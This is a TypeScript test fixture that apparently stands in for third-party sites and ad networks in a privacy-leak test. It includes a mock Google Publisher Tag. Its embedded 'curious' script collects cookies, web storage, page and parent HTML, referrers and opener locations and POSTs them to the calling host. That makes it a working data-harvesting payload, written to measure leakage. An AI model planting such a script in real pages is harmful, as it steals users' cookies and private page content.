import type {Answer, Recorded} from './recorder.ts'

/**
 * What the pages, frames and scripts of other companies run in this test: they tell their own site all that they can
 * find out about the page that they are in or come from, and about its reader.
 */
const curious = `
const attempt = (read) => { try { return String(read()) } catch { return 'denied' } }
const tell = (what) => fetch(what.site + '/told', {
  method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({
    ...what,
    address: location.href,
    base: document.baseURI,
    referrer: document.referrer,
    title: document.title,
    name: window.name,
    cookie: attempt(() => document.cookie),
    stored: attempt(() => JSON.stringify([localStorage, sessionStorage])),
    ancestors: attempt(() => [...location.ancestorOrigins].join()),
    loaded: attempt(() => performance.getEntries().map(({name}) => name).join()),
    page: attempt(() => document.documentElement.outerHTML),
    around: attempt(() => parent.document.documentElement.outerHTML),
    above: attempt(() => top.location.href),
    opener: attempt(() => opener.location.href),
  }),
}).catch(() => {})
`

/** A script of another site that reports from wherever it is put. */
const script = (host: string): string => `(() => {${curious}; tell({site: 'https://${host}'})})()`

/** The ad network's script: the parts of the Google Publisher Tag that the site uses, which say all that they are told. */
const publisherTag = (host: string): string => `(() => {${curious}
const said = {}
let listener = () => {}
const service = {
  set: (name, value) => { said[name] = value },
  setPrivacySettings: (settings) => { said.privacy = settings },
  addEventListener: (name, listen) => { listener = listen },
}
const define = (unit, sizes) => {
  const slot = {addService: () => slot, setTargeting: (key, value) => { said['key.' + key] = value; return slot }}
  Object.assign(said, {unit, sizes})
  return slot
}
window.googletag = {
  apiReady: true,
  pubads: () => service,
  defineSlot: define,
  defineOutOfPageSlot: define,
  enableServices: () => {},
  display: (id) => {
    document.getElementById(id).textContent = 'An ad'
    tell({site: 'https://${host}', said})
    listener({isEmpty: false, size: [300, 250]})
  },
}})()`

/** Answers in the place of every other site. */
export function answerAsOtherSite({host, path}: Recorded): Answer {
  if (path.startsWith('/tag/js/gpt.js')) return {type: 'text/javascript', body: publisherTag(host)}
  if (path.endsWith('.js')) return {type: 'text/javascript', body: script(host)}
  if (/\.gif|\.png/.test(path)) return {type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>'}
  return {
    type: 'text/html',
    body: `<!DOCTYPE html><title>Another site</title><script>${script(host)}</script>`,
  }
}
